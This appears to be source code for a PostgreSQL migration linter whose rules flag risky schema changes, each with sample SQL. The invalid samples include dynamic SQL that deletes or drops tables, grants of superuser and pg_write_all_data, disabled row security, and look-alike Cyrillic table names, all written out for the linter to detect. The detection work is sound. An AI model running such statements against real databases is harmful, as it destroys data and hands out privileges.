	return schema === void 0 ? name : `${schema}.${name}`;
}
/** By the facts; undefined where they do not know the table. */
function keysOf({ object, key }) {
	if (object.size === void 0) return void 0;
	return key === void 0 ? [] : [key];
}
const long = "archive_of_all_orders_that_were_cancelled_by_customers_in_the_year";
const longName = defineRule({
	id: "long-name",
	axis: "design",
	default: "off",
	title: "A name is longer than PostgreSQL keeps",
	why: "The database knows it by its first 63 bytes, and tools that look for the whole name do not find it.",
	instead: "Use a name of at most 63 bytes.",
	invalid: [{
		sql: `create table ${long} (id bigint)`,
		level: "low",
		message: `The name ${long} is cut to ${long.slice(0, 63)}.`
	}],
	valid: [`create table ${long.slice(0, 63)} (id bigint)`, `select '${long}'`],
	check: ({ scripts }) => scripts.flatMap((script) => {
		return marksOf(script, namesIn(script.source.text).filter(({ name }) => keptName(name) !== name)).map((effect) => ({
			effect,
			place: effect.place,
			level: "low",
			message: `The name ${effect.name} is cut to ${keptName(effect.name)}.`
		}));
	})
});
/** Scripts whose letters pass for letters of another one (Unicode Technical Standard 39). */
const scripts = [
	["Latin", /\p{Script=Latin}/u],
	["Cyrillic", /\p{Script=Cyrillic}/u],
	["Greek", /\p{Script=Greek}/u],
	["Armenian", /\p{Script=Armenian}/u],
	["Cherokee", /\p{Script=Cherokee}/u],
	["Coptic", /\p{Script=Coptic}/u],
	["Lisu", /\p{Script=Lisu}/u]
];
/** The Latin letter that each of these is shown like. */
const likes = {
	а: "a",
	в: "b",
	с: "c",
	ԁ: "d",
	е: "e",
	һ: "h",
	і: "i",
	ј: "j",
	к: "k",
	ӏ: "l",
	м: "m",
	п: "n",
	о: "o",
	р: "p",
	ԛ: "q",
	г: "r",
	ѕ: "s",
	т: "t",
	ц: "u",
	ѵ: "v",
	ԝ: "w",
	х: "x",
	у: "y",
	α: "a",
	ι: "i",
	κ: "k",
	ν: "v",
	ο: "o",
	ρ: "p",
	τ: "t",
	υ: "u",
	χ: "x",
	ո: "n",
	օ: "o",
	ս: "u",
	հ: "h"
};
/** A name as it looks to somebody who expects Latin letters. */
function lookOf(name) {
	return Array.from(name.toLowerCase(), (letter) => likes[letter] ?? letter).join("");
}
/** What is wrong with a name by itself, in words that follow it. */
function trickIn(name) {
	const mixed = scripts.filter(([, pattern]) => pattern.test(name)).map(([script]) => script);
	if (mixed.length > 1) return `mixes ${mixed.join(" and ")} letters`;
	if (name.normalize("NFKC") !== name || /[\p{Default_Ignorable_Code_Point}\p{Co}\p{Cn}\u2800]|(?! )\p{Z}/u.test(name)) return "holds a character that is shown like another one or not at all";
}
const misleadingName = defineRule({
	id: "misleading-name",
	axis: "concealment",
	title: "A name looks like another one",
	why: "Reviewers read one name and PostgreSQL another: the change touches something else than they approve.",
	instead: "Write each name in letters of one script, as they are typed on a keyboard.",
	invalid: [
		{
			sql: "create table pаyments (id bigint)",
			level: "high",
			message: "The name pаyments mixes Latin and Cyrillic letters."
		},
		{
			sql: "create table \"users　\" (id bigint)",
			level: "high",
			message: "The name users　 holds a character that is shown like another one or not at all."
		},
		{
			sql: "create table ｕｓｅｒｓ (id bigint)",
			level: "high",
			message: "The name ｕｓｅｒｓ holds a character that is shown like another one or not at all."
		},
		{
			sql: "create table cop (id bigint); create table сор (id bigint)",
			level: "high",
			message: "The name сор looks like cop, which the change names as well."
		}
	],
	valid: [
		"create table заказы (номер bigint, сумма bigint)",
		"create table \"größe\" (id bigint, データ text, 名前 text)",
		"select 'pаyments'"
	],
	check: ({ scripts }) => {
		const suspects = scripts.filter(({ source }) => /[^\u0000-\u007f]/.test(source.text));
		if (suspects.length === 0) return [];
		const plain = new Set(scripts.flatMap(({ source }) => namesIn(source.text).map(({ name }) => name).filter(isAscii)));
		return suspects.flatMap((script) => {
			return marksOf(script, namesIn(script.source.text).flatMap((name) => {
				const problem = isAscii(name.name) ? void 0 : problemOf(name.name, plain);
				return problem === void 0 ? [] : [{
					...name,
					problem
				}];
			})).map((effect) => ({
				effect,
				place: effect.place,
				level: "high",
				message: `The name ${effect.name} ${effect.problem}.`
			}));
		});
	}
});
function problemOf(name, plain) {
	const trick = trickIn(name);
	if (trick !== void 0) return trick;
	const look = lookOf(name);
	return plain.has(look) ? `looks like ${look}, which the change names as well` : void 0;
}
function isAscii(name) {
	return /^[ -~]*$/.test(name);
}
const moneyType = defineRule({
	id: "money-type",
	axis: "design",
	default: "off",
	title: "A column has the type money",
	why: "The currency and the digits after the point depend on a setting of the server.",
	instead: "Use numeric, and a column for the currency.",
	invalid: [{
		sql: "create table notes (price money)",
		level: "low",
		message: "Column notes.price has the type money."
	}],
	valid: ["create table notes (price numeric(12, 2))"],
	check: ({ scripts }) => declarationsOf(scripts, "column").filter(({ type }) => type === "money").map((effect) => ({
		effect,
		level: "low",
		message: `Column ${effect.table}.${effect.column} has the type money.`
	}))
});
const multiplePermissivePolicies = defineRule({
	id: "multiple-permissive-policies",
	default: "off",
	axis: "privilege",
	title: "Several permissive policies stand for the same command",
	why: "A row passes when any of them lets it: each one widens what the others allow, and all are asked for every row.",
	instead: "Write one policy, or make the narrowing ones restrictive.",
	invalid: [{
		sql: "create table notes (id int, team int); create policy own on notes using (id = 1); create policy team on notes using (team = 1)",
		level: "low",
		message: "Policy team of table notes stands beside another for all."
	}],
	valid: ["create table notes (id int, team int); alter table notes enable row level security; create policy own on notes using (id = 1); create policy team on notes as restrictive using (team = 1)"],
	check: ({ scripts }) => {
		const seen = /* @__PURE__ */ new Set();
		return traitsOf(scripts, "policy").flatMap((effect) => {
			if (!effect.permissive) return [];
			const place = `${tableOf$1(effect.table)} ${effect.command}`;
			const again = seen.has(place);
			seen.add(place);
			const message = `Policy ${effect.policy} of table ${writtenTable(effect.table)} stands beside another for ${effect.command}.`;
			return again ? [{
				effect,
				level: "low",
				message
			}] : [];
		});
	}
});
const plain = /^[a-z_][a-z0-9_]*$/;
const nameStyle = defineRule({
	id: "name-style",
	axis: "design",
	default: "off",
	title: "A new name has to be quoted",
	why: "Whoever writes it without quotes means another name, because PostgreSQL folds it to lower case.",
	instead: "Use lower-case letters, digits and underscores.",
	invalid: [{
		sql: "create table \"Notes\" (id bigint)",
		level: "low",
		message: "The name Notes has to be quoted."
	}, {
		sql: "alter table users add column \"lastLogin\" date",
		level: "low",
		message: "The name lastLogin has to be quoted."
	}],
	valid: ["create table Notes (Id bigint)", "create table \"notes\" (\"id\" bigint)"],
	check: ({ effects, scripts }) => {
		const objects = ofKind(effects, "creates").filter(({ source }) => source === "static").map((effect) => ({
			effect,
			name: effect.object.part ?? effect.object.name
		}));
		const columns = declarationsOf(scripts, "column").map((effect) => ({
			effect,
			name: effect.column
		}));
		return [...objects, ...columns].filter(({ name }) => name !== "" && !plain.test(name)).map(({ effect, name }) => ({
			effect,
			level: "low",
			message: `The name ${name} has to be quoted.`
		}));
	}
});
/** Parameters that a server refuses to set before this major version. */
const settings$1 = {
	stats_fetch_consistency: 15,
	recursive_worktable_factor: 15,
	createrole_self_grant: 16,
	vacuum_buffer_usage_limit: 16,
	enable_presorted_aggregate: 16,
	transaction_timeout: 17,
	event_triggers: 17,
	vacuum_truncate: 18,
	file_copy_method: 18,
	enable_self_join_elimination: 18,
	enable_distinct_reordering: 18
};
/** From the sections "Migration to Version" and "Changes" of PostgreSQL's release notes, 15 to 18. */
const syntaxClues = [
	clue("MergeStmt", 15, "MERGE"),
	clue("MergeStmt", 17, "MERGE with RETURNING", ({ returningClause }) => returningClause !== void 0),
	clue("MergeWhenClause", 17, "WHEN NOT MATCHED BY SOURCE", ({ matchKind }) => matchKind === "MERGE_WHEN_NOT_MATCHED_BY_SOURCE"),
	clue("IndexStmt", 15, "NULLS NOT DISTINCT", (index) => index.nulls_not_distinct === true),
	clue("Constraint", 15, "NULLS NOT DISTINCT", (constraint) => constraint.nulls_not_distinct === true),
	clue("Constraint", 15, "ON DELETE SET with a list of columns", ({ fk_del_set_cols }) => fk_del_set_cols !== void 0),
	clue("DefElem", 15, "security_invoker", ({ defname }) => defname === "security_invoker"),
	clue("GrantStmt", 15, "GRANT ON PARAMETER", ({ objtype }) => objtype === "OBJECT_PARAMETER_ACL"),
	clue("AlterTableCmd", 15, "SET ACCESS METHOD", ({ subtype }) => subtype === "AT_SetAccessMethod"),
	clue("CopyStmt", 15, "COPY with HEADER MATCH", ({ options }) => headerMatches(options)),
	clue("PublicationObjSpec", 15, "a publication of a schema", ({ pubobjtype }) => (pubobjtype ?? "").startsWith("PUBLICATIONOBJ_TABLES_IN")),
	clue("PublicationObjSpec", 15, "a publication of some rows or columns", ({ pubtable }) => pubtable?.whereClause !== void 0 || pubtable?.columns !== void 0),
	...[
		"JsonObjectConstructor",
		"JsonArrayConstructor",
		"JsonArrayQueryConstructor",
		"JsonObjectAgg",
		"JsonArrayAgg"
	].map((tag) => clue(tag, 16, "the SQL/JSON constructors")),
	clue("JsonIsPredicate", 16, "IS JSON"),
	clue("RangeSubselect", 16, "a subquery in FROM without an alias", ({ alias }) => alias === void 0),
	clue("CreateStatsStmt", 16, "CREATE STATISTICS without a name", ({ defnames }) => defnames === void 0),
	clue("ColumnDef", 16, "STORAGE in CREATE TABLE", ({ storage_name }) => storage_name !== void 0),
	clue("GrantRoleStmt", 16, "GRANT of a role WITH INHERIT or SET", ({ opt }) => hasOption(opt, "inherit", "set")),
	clue("CopyStmt", 16, "COPY with DEFAULT", ({ options }) => hasOption(options, "default")),
	clue("ExplainStmt", 16, "EXPLAIN (GENERIC_PLAN)", ({ options }) => hasOption(options, "generic_plan")),
	clue("VacuumStmt", 16, "VACUUM (BUFFER_USAGE_LIMIT)", ({ options }) => hasOption(options, "buffer_usage_limit")),
	clue("FuncCall", 16, "SYSTEM_USER", (call) => isSqlCall(call, "system_user")),
	...[
		"JsonFuncExpr",
		"JsonParseExpr",
		"JsonScalarExpr",
		"JsonSerializeExpr"
	].map((tag) => clue(tag, 17, "the SQL/JSON query functions")),
	clue("JsonTable", 17, "JSON_TABLE"),
	clue("AlterTableCmd", 17, "SET EXPRESSION", ({ subtype }) => subtype === "AT_SetExpression"),
	clue("AlterTableCmd", 17, "SET ACCESS METHOD DEFAULT", ({ subtype, name }) => subtype === "AT_SetAccessMethod" && name === void 0),
	clue("GrantStmt", 17, "the privilege MAINTAIN", givesMaintain),
	clue("AlterDefaultPrivilegesStmt", 17, "the privilege MAINTAIN", ({ action }) => givesMaintain(action ?? {})),
	clue("CopyStmt", 17, "COPY with ON_ERROR", ({ options }) => hasOption(options, "on_error")),
	clue("CopyStmt", 17, "COPY with LOG_VERBOSITY", ({ options }) => hasOption(options, "log_verbosity")),
	clue("ExplainStmt", 17, "EXPLAIN (MEMORY or SERIALIZE)", ({ options }) => hasOption(options, "memory", "serialize")),
	clue("FuncCall", 17, "AT LOCAL", (call) => isSqlCall(call, "timezone") && (call.args ?? []).length === 1),
	clue("Constraint", 18, "GENERATED … VIRTUAL", ({ generated_kind }) => generated_kind === "v"),
	clue("Constraint", 18, "NOT ENFORCED", isNotEnforced),
	clue("Constraint", 18, "NOT NULL as a constraint of the table", ({ contype, keys }) => contype === "CONSTR_NOTNULL" && keys !== void 0),
	clue("Constraint", 18, "WITHOUT OVERLAPS", ({ without_overlaps }) => without_overlaps === true),
	clue("Constraint", 18, "PERIOD", ({ fk_with_period }) => fk_with_period === true),
	clue("ATAlterConstraint", 18, "ALTER CONSTRAINT with ENFORCED or INHERIT", ({ alterEnforceability, alterInheritability }) => alterEnforceability === true || alterInheritability === true),
	clue("CopyStmt", 18, "COPY with REJECT_LIMIT", ({ options }) => hasOption(options, "reject_limit")),
	clue("VacuumRelation", 18, "VACUUM or ANALYZE ONLY", ({ relation }) => relation?.inh !== true && relation !== void 0),
	clue("CreateForeignTableStmt", 18, "LIKE in CREATE FOREIGN TABLE", ({ base }) => (base?.tableElts ?? []).some((element) => nodeAs(element, "TableLikeClause") !== void 0)),
	clue("InsertStmt", 18, "RETURNING WITH", hasReturningOptions),
	clue("UpdateStmt", 18, "RETURNING WITH", hasReturningOptions),
	clue("DeleteStmt", 18, "RETURNING WITH", hasReturningOptions),
	clue("MergeStmt", 18, "RETURNING WITH", hasReturningOptions),
	...[
		clue("InsertStmt", 18, "RETURNING of OLD and NEW", returnsOldOrNew),
		clue("UpdateStmt", 18, "RETURNING of OLD and NEW", returnsOldOrNew),
		clue("DeleteStmt", 18, "RETURNING of OLD and NEW", returnsOldOrNew),
		clue("MergeStmt", 18, "RETURNING of OLD and NEW", returnsOldOrNew)
	].map((oldOrNew) => ({
		...oldOrNew,
		notInBodies: true
	})),
	...Object.entries(settings$1).flatMap(([name, since]) => [
		clue("VariableSetStmt", since, name, (set) => set.name === name),
		clue("AlterRoleSetStmt", since, name, ({ setstmt }) => setstmt?.name === name),
		clue("AlterDatabaseSetStmt", since, name, ({ setstmt }) => setstmt?.name === name),
		clue("AlterSystemStmt", since, name, ({ setstmt }) => setstmt?.name === name)
	])
];
function clue(tag, since, feature, when = () => true) {
	const holds = (node) => {
		const found = nodeAs(node, tag);
		return found !== void 0 && when(found);
	};
	return {
		tag,
		since,
		feature,
		notInBodies: false,
		holds
	};
}
function hasOption(options, ...names) {
	return names.some((name) => optionNamed(options, name) !== void 0);
}
function headerMatches(options) {
	return nodeAs(optionNamed(options, "header")?.arg, "String")?.sval?.toLowerCase() === "match";
}
/** Words that the grammar itself turns into a call. */
function isSqlCall(call, name) {
	return call.funcformat === "COERCE_SQL_SYNTAX" && namesOf(call.funcname).at(-1) === name;
}
function givesMaintain({ privileges }) {
	return nodesAs(privileges, "AccessPriv").some(({ priv_name }) => priv_name === "maintain");
}
function isNotEnforced({ contype, is_enforced }) {
	return (contype === "CONSTR_CHECK" || contype === "CONSTR_FOREIGN") && is_enforced !== true;
}
function hasReturningOptions(statement) {
	return statement.returningClause?.options !== void 0;
}
/** A table or an alias of that name is what the words mean on every version. */
function returnsOldOrNew(statement) {
	return ["old", "new"].some((word) => someNode(statement.returningClause, (node) => startsWith(node, word)) && !someNode(statement, (node) => isNamed(node, word)));
}
function startsWith(node, word) {
	const fields = nodeAs(node, "ColumnRef")?.fields;
	return (fields ?? []).length > 1 && nodeAs(fields?.[0], "String")?.sval === word;
}
function isNamed(node, word) {
	return "aliasname" in node && node.aliasname === word || "relname" in node && node.relname === word;
}
/** What a server of this major version would refuse or read differently. */
function newerSyntax$1(scripts, major) {
	return scripts.flatMap(({ unitId, statements }) => statements.flatMap((statement, index) => statement.kind === "unparsed" ? [] : needsOf(statement).filter(({ since }) => since > major).map((need) => ({
		...need,
		unitId,
		statement: index,
		source: "static"
	}))));
}
/** Whether a server of this major version may take a number for another one, and say nothing. */
function readsNumbersOtherwise({ text, bodies }, major) {
	const parts = bodies.flatMap((body) => body.kind === "read" ? body.parts : []);
	return [{ text }, ...parts].flatMap((part) => "text" in part ? needsOfNumbers(part.text) : []).some(({ since }) => since > major);
}
function needsOf({ node, text, bodies }) {
	return [
		...needsOfTree(node, () => true),
		...needsOfNumbers(text),
		...bodies.flatMap((body) => needsOfBody(body))
	];
}
function needsOfBody(body) {
	if (body.kind === "opaque") return [];
	return body.parts.flatMap((part) => "node" in part ? [...needsOfTree(part.node, ({ notInBodies }) => !notInBodies), ...needsOfNumbers(part.text)] : []);
}
const cluesByTag = /* @__PURE__ */ new Map();
for (const clue of syntaxClues) cluesByTag.set(clue.tag, [...cluesByTag.get(clue.tag) ?? [], clue]);
function needsOfTree(tree, counts) {
	const needs = [];
	const pending = [tree];
	for (let node = pending.pop(); node !== void 0; node = pending.pop()) {
		const here = node;
		for (const [key, child] of childrenOf(here)) {
			const clues = cluesByTag.get(key) ?? [];
			needs.push(...clues.filter((clue) => counts(clue) && clue.holds(here)));
			pending.push(child);
		}
	}
	return needs;
}
/** The tree holds the value alone. An older server reads `0x1f` as the number 0 named `x1f`. */
function needsOfNumbers(text) {
	return [...tokensOf(text)].some(({ kind, start, end }) => kind === "number" && /^0[xob]|_/i.test(text.slice(start, end))) ? [{
		feature: "a number with 0x, 0o, 0b or an underscore",
		since: 16
	}] : [];
}
const newerSyntax = defineRule({
	id: "newer-syntax",
	axis: "compatibility",
	title: "The database is too old for this syntax",
	why: "It is read with the grammar of PostgreSQL 18: an older server refuses it, or reads it differently from how it was judged.",
	instead: "Write it in a way that the database’s version knows, or upgrade the database first.",
	invalid: [
		{
			sql: "create unique index concurrently users_email on users (email) nulls not distinct",
			postgres: 14,
			level: "high",
			message: "Uses NULLS NOT DISTINCT, which PostgreSQL 14 does not know: it came with 15."
		},
		{
			sql: "select 0x1f",
			postgres: 15,
			level: "high",
			message: "Uses a number with 0x, 0o, 0b or an underscore, which PostgreSQL 15 does not know: it came with 16."
		},
		{
			sql: "set transaction_timeout = '5s'",
			postgres: 16,
			level: "high",
			message: "Uses transaction_timeout, which PostgreSQL 16 does not know: it came with 17."
		},
		{
			sql: "create table orders (net int, gross int generated always as (net * 2) virtual)",
			postgres: 17,
			level: "high",
			message: "Uses GENERATED … VIRTUAL, which PostgreSQL 17 does not know: it came with 18."
		}
	],
	valid: ["create table orders (net int, gross int generated always as (net * 2) stored)"],
	check: ({ scripts, postgres }) => postgres === void 0 ? [] : newerSyntax$1(scripts, postgres).map((effect) => ({
		effect,
		level: "high",
		message: `Uses ${effect.feature}, which PostgreSQL ${postgres} does not know: it came with ${effect.since}.`
	}))
});
const observedNotPredicted = defineRule({
	id: "observed-not-predicted",
	axis: "concealment",
	title: "The rehearsal did something that the text does not say",
	why: "Triggers, cascades, functions or dynamic SQL did it: whoever reads the text does not see it.",
	instead: "Write the effect into the change as a plain statement, or say why it is meant.",
	invalid: [{
		sql: "do $$ begin execute (select 'delete from users' from (values (1)) v); end $$",
		level: "critical",
		message: "Observed, not predicted: delete of 3 rows in table public.users."
	}],
	valid: ["update users set name = 'a' where id = 7"],
	check: ({ effects }) => effects.filter(({ source }) => source === "observed").map((effect) => ({
		effect,
		level: levelOf$1(effect),
		message: `Observed, not predicted: ${describe(effect)}.`,
		destructive: isLoss(effect)
	}))
});
function isLoss(effect) {
	return effect.kind === "drops" || effect.kind === "writes" && effect.verb !== "insert";
}
function levelOf$1(effect) {
	if (isLoss(effect)) return "critical";
	if (effect.kind === "locks" || effect.kind === "rewrites") return "medium";
	return "high";
}
function describe(effect) {
	const name = "object" in effect && effect.object !== void 0 ? objectName(effect.object) : "";
	if (effect.kind === "writes") return `${effect.verb} of ${rowsOf(effect.rows ?? 0)} in ${name}`;
	if (effect.kind === "locks") return `${effect.mode} lock on ${name}`;
	return `${effect.kind} ${name}`;
}
function rowsOf(count) {
	return count === 1 ? "1 row" : `${count} rows`;
}
const opaqueDynamicSql = defineRule({
	id: "opaque-dynamic-sql",
	axis: "unknown",
	title: "SQL text is put together while the change runs",
	why: "What it executes is not in the reviewed text and can differ between databases.",
	instead: "Write the statements themselves, one by one.",
	invalid: [{
		sql: "do $$ begin execute (select 'drop table if exists t' || count(*) from users); end $$",
		level: "high",
		message: "Executes SQL that is built at run time: (select 'drop table if exists t' || count(*) from users)"
	}, {
		sql: "select query_to_xml('delete from ' || name, true, true, '') from users",
		level: "high",
		message: "Executes SQL that is built at run time: an argument that is computed"
	}],
	valid: ["do $$ begin update users set name = 'a' where id = 7; end $$", "do $$ begin execute format('create table %I (id int)', 'scratch'); end $$"],
	check: ({ effects }) => ofKind(effects, "executes-dynamic").map((effect) => ({
		effect,
		level: "high",
		message: `Executes SQL that is built at run time: ${effect.text.replace(/^SELECT /, "")}`,
		destructive: /\b(?:drop|delete|truncate|update)\b/i.test(effect.text),
		unknown: true
	}))
});
const settings = /* @__PURE__ */ new Set([
	"standard_conforming_strings",
	"backslash_quote",
	"escape_string_warning",
	"client_encoding",
	"names"
]);
const parseSetting = defineRule({
	id: "parse-setting",
	axis: "concealment",
	title: "A setting changes how SQL text is read",
	why: "The server would read the following statements differently from how they were judged.",
	instead: "Leave the setting alone; write strings that need no backslash.",
	invalid: [{
		sql: "set standard_conforming_strings = off",
		level: "critical",
		message: "Sets standard_conforming_strings, which changes how SQL text is read."
	}, {
		sql: "select set_config('client_encoding', 'sjis', false)",
		level: "critical",
		message: "Sets client_encoding, which changes how SQL text is read."
	}],
	valid: ["set lock_timeout = '5s'"],
	check: ({ effects }) => ofKind(effects, "sets").filter(({ setting }) => settings.has(setting)).map((effect) => ({
		effect,
		level: "critical",
		message: `Sets ${effect.setting}, which changes how SQL text is read.`,
		unknown: true,
		denies: true
	}))
});
const policyTrustsUser = defineRule({
	id: "policy-trusts-user",
	axis: "privilege",
	title: "A policy believes what users write about themselves",
	why: "Users can edit their own metadata: whoever writes the right word there sees every row.",
	instead: "Decide by something that only the server writes, such as a table of roles or app_metadata.",
	invalid: [{
		sql: "create policy admins on users using ((current_setting('request.jwt.claims')::json -> 'user_metadata' ->> 'role') = 'admin')",
		level: "high",
		message: "Policy admins of table users trusts the metadata of its user."
	}],
	valid: ["create policy own on users using (age = current_setting('app.age')::int)"],
	check: ({ scripts }) => traitsOf(scripts, "policy").filter(({ metadata }) => metadata).map((effect) => ({
		effect,
		level: "high",
		message: `Policy ${effect.policy} of table ${writtenTable(effect.table)} trusts the metadata of its user.`
	}))
});
const policyWithoutRowSecurity = defineRule({
	id: "policy-without-row-security",
	axis: "privilege",
	title: "A new table has a policy that nobody obeys",
	why: "Policies do nothing until row security is enabled: everybody who can read the table sees every row.",
	instead: "Enable row level security on the table before its first policy.",
	invalid: [{
		sql: "create table notes (id int); create policy own on notes using (id = 1)",
		level: "medium",
		message: "Creates policy notes.own while row security of the table is off."
	}],
	valid: ["create table notes (id int); alter table notes enable row level security; create policy own on notes using (id = 1)"],
	check: ({ effects }) => {
		const created = /* @__PURE__ */ new Set();
		const enabled = /* @__PURE__ */ new Set();
		return effects.flatMap((effect) => {
			if (effect.kind === "alters" && effect.change === "enable-row-security") enabled.add(tableOf$1(effect.object));
			if (effect.kind !== "creates") return [];
			const { object } = effect;
			if (object.kind === "table" && object.createdHere) created.add(tableOf$1(object));
			const isOpen = created.has(tableOf$1(object)) && !enabled.has(tableOf$1(object));
			if (object.kind !== "policy" || !isOpen) return [];
			return [{
				effect,
				level: "medium",
				message: `Creates ${objectName(object)} while row security of the table is off.`
			}];
		});
	}
});
/** Alterations that take a protection away or move power, in words. */
const changes$1 = {
	owner: "Changes the owner of",
	"disable-row-security": "Switches row security off for",
	"no-force-row-security": "Lets the owner bypass row security of",
	"disable-trigger": "Disables triggers:",
	"disable-rule": "Disables a rule:",
	"enable-trigger": "Enables triggers:",
	"instead-rule": "Replaces what a statement does by",
	rule: "Adds to what a statement does by",
	policy: "Opens or changes",
	"function-path": "Changes what names mean in",
	"security-definer": "Runs with its owner’s rights:",
	"security-label": "Changes the security label of",
	"role-attributes": "Changes the attributes of"
};
const powers = /superuser|createrole|bypassrls|replication|pg_\w+/;
const privilegedChange = defineRule({
	id: "privileged-change",
	axis: "privilege",
	title: "Power or protection changes hands",
	why: "Who can read, write or bypass controls is different afterwards, whatever else was reviewed.",
	instead: "Let the owner of the object and the people who guard privileges approve it.",
	invalid: [
		{
			sql: "grant app_owner to app",
			level: "high",
			message: "Grants app_owner to app."
		},
		{
			sql: "grant pg_write_all_data to app",
			level: "critical",
			message: "Grants pg_write_all_data to app."
		},
		{
			sql: "grant select on users to app",
			level: "medium",
			message: "Grants select on table users to app."
		},
		{
			sql: "revoke select on users from app",
			level: "medium",
			message: "Revokes select on table users from app."
		},
		{
			sql: "alter role app superuser",
			level: "critical",
			message: "Changes the attributes of role app: superuser."
		},
		{
			sql: "alter table users owner to app",
			level: "high",
			message: "Changes the owner of table users: app."
		},
		{
			sql: "alter table users disable row level security",
			level: "high",
			message: "Switches row security off for table users."
		},
		{
			sql: "alter table users disable trigger all",
			level: "high",
			message: "Disables triggers: table users."
		}
	],
	valid: ["create table scratch (id int); alter table scratch enable row level security"],
	check: ({ effects }) => [
		...ofKind(effects, "grants").flatMap(granted),
		...ofKind(effects, "revokes").flatMap(revoked),
		...ofKind(effects, "alters").flatMap(altered)
	]
});
function granted(effect) {
	const { object, privileges, to, withGrantOption } = effect;
	if (to.includes("public") || object?.createdHere === true && !withGrantOption) return [];
	const option = withGrantOption ? ", who can grant it on" : "";
	const message = `Grants ${privileges.join(", ")}${onObject(effect)} to ${to.join(", ")}${option}.`;
	const membership = object === void 0;
	return [{
		effect,
		level: membership && powers.test(privileges.join(" ")) ? "critical" : membership || withGrantOption ? "high" : "medium",
		message
	}];
}
function revoked(effect) {
	const { object, privileges, from } = effect;
	if (object?.createdHere === true) return [];
	return [{
		effect,
		level: "medium",
		message: `Revokes ${privileges.join(", ")}${onObject(effect)} from ${from.join(", ")}.`
	}];
}
function onObject({ object }) {
	return object === void 0 ? "" : ` on ${objectName(object)}`;
}
function altered(effect) {
	const { change, object, to } = effect;
	const words = changes$1[change];
	if (words === void 0 || isNewTable(effect)) return [];
	const detail = to === void 0 || to === "" ? "" : `: ${to}`;
	return [{
		effect,
		level: change === "role-attributes" && powers.test(to ?? "") ? "critical" : "high",
		message: `${words} ${objectName(object)}${detail}.`
	}];
}
/** Nobody relies on the protections of a table that this change creates, except on its owner. */
function isNewTable(effect) {
	return effect.kind === "alters" && effect.object.createdHere && effect.change !== "owner" && effect.change !== "security-definer" && effect.change !== "policy";
}
const publishedTable = defineRule({
	id: "published-table",
	axis: "compatibility",
	title: "A table that is replicated changes",
	why: "Logical replication carries rows, not definitions: subscribers stop, or go on with another table than this one.",
	instead: "Change the subscribers first where something is added, and last where something is taken away.",
	invalid: [{
		sql: "create publication feed for table users; alter table users add column note text",
		level: "medium",
		message: "Changes table users, which publication feed replicates: add-column."
	}, {
		sql: "create publication feed for all tables; truncate users",
		level: "medium",
		message: "Changes table users, which publication feed replicates: truncate."
	}],
	valid: ["alter table users add column note text"],
	check: ({ effects, scripts, catalog }) => {
		const created = createdTables(effects);
		const publications = [...traitsOf(scripts, "publishes").map(here), ...before(catalog)];
		if (publications.length === 0) return [];
		const publicationOf = finderOf(publications);
		return effects.flatMap((effect) => {
			const changed = changeOf(effect);
			if (changed === void 0 || created.has(tableOf$1(changed.table))) return [];
			return remarksOn(effect, changed, publicationOf(changed.table));
		});
	}
});
function here({ publication, everything, tables }) {
	return {
		name: publication,
		everything,
		tables,
		known: false
	};
}
function before({ facts }) {
	return (facts?.publications ?? []).map(({ name, allTables, tables }) => ({
		name,
		everything: allTables,
		tables,
		known: true
	}));
}
/** What a subscriber does not hear of, or hears of too late. */
const shapes = /* @__PURE__ */ new Set([
	"add-column",
	"column-type",
	"rename",
	"set-schema",
	"set-not-null",
	"set-unlogged",
	"replica-identity",
	"attach-partition",
	"detach-partition"
]);
function changeOf(effect) {
	if (effect.kind === "truncates") return {
		table: tableIn(effect.object),
		change: "truncate"
	};
	if (effect.kind === "drops" && effect.object.kind === "column") return {
		table: tableIn(effect.object),
		change: "drop-column"
	};
	if (effect.kind !== "alters" || !shapes.has(effect.change)) return void 0;
	return effect.object.kind === "table" || effect.object.kind === "column" ? {
		table: tableIn(effect.object),
		change: effect.change
	} : void 0;
}
function tableIn({ schema, name, createdHere }) {
	return {
		kind: "table",
		name,
		createdHere,
		...schema === void 0 ? {} : { schema }
	};
}
/** Finds the first publication that holds a table. */
function finderOf(publications) {
	const all = publications.findIndex(({ everything }) => everything);
	const findMembers = meantBy(eachTableOnce((all < 0 ? publications : publications.slice(0, all)).flatMap((publication) => publication.tables.map((table) => ({
		table,
		publication
	})))));
	return (table) => findMembers([table])[0]?.publication ?? publications[all];
}
function remarksOn(effect, { table, change }, found) {
	if (found === void 0 || table.createdHere) return [];
	return [{
		effect,
		level: "medium",
		message: `Changes ${objectName(table)}, which publication ${found.name} replicates: ${change}.`,
		object: table,
		...found.known ? { usesFacts: true } : {}
	}];
}
const publishedWithoutKey = defineRule({
	id: "published-without-key",
	axis: "compatibility",
	title: "A replicated table has nothing to tell its rows apart by",
	why: "PostgreSQL refuses every UPDATE and DELETE of it from then on.",
	instead: "Give the table a primary key, or a replica identity, before it is published.",
	invalid: [{
		sql: "create table events (day date); create publication feed for table events",
		level: "high",
		message: "Publication feed replicates table events, which has no primary key."
	}],
	valid: ["create table events (day date)"],
	check: ({ effects, scripts, catalog }) => {
		const findIdentified = meantBy(eachTableOnce(ofKind(effects, "alters").filter(({ change }) => change === "replica-identity" || change === "add-constraint").map(({ object }) => ({ table: object }))));
		const keyless = eachTableOnce(keylessTables(scripts, catalog)).filter(({ table }) => findIdentified([table]).length === 0);
		const findKeyless = meantBy(keyless);
		return traitsOf(scripts, "publishes").flatMap((effect) => (effect.everything ? keyless : findKeyless(effect.tables)).map(({ table, known }) => ({
			effect,
			level: "high",
			message: `Publication ${effect.publication} replicates table ${writtenTable(table)}, which has no primary key.`,
			...known ? { usesFacts: true } : {}
		})));
	}
});
function keylessTables(scripts, { facts }) {
	const here = declarationsOf(scripts, "table").filter(({ hasPrimaryKey, derived, temporary }) => !hasPrimaryKey && !derived && !temporary).map(({ table }) => ({
		table: toName(table),
		known: false
	}));
	const before = (facts?.relations ?? []).filter(({ kind }) => kind === "table" || kind === "partitioned-table").filter(({ keys, replicaIdentity }) => {
		return !keys.some((key) => key.kind === "primary") && (replicaIdentity === "default" || replicaIdentity === "nothing");
	}).map((table) => ({
		table,
		known: true
	}));
	return [...here, ...before];
}
function toName(written) {
	const [first = "", second] = written.split(".");
	return second === void 0 ? { name: first } : {
		schema: first,
		name: second
	};
}
const renameObject = defineRule({
	id: "rename-object",
	axis: "compatibility",
	title: "An object gets another name or schema",
	why: "Clients that use the old name fail at once, and a later statement may meet another object under it.",
	instead: "Add the new name beside the old one, for example with a view, and move the clients first.",
	invalid: [
		{
			sql: "alter table users rename to people",
			level: "high",
			message: "Renames table users to people."
		},
		{
			sql: "alter table users rename column email to mail",
			level: "high",
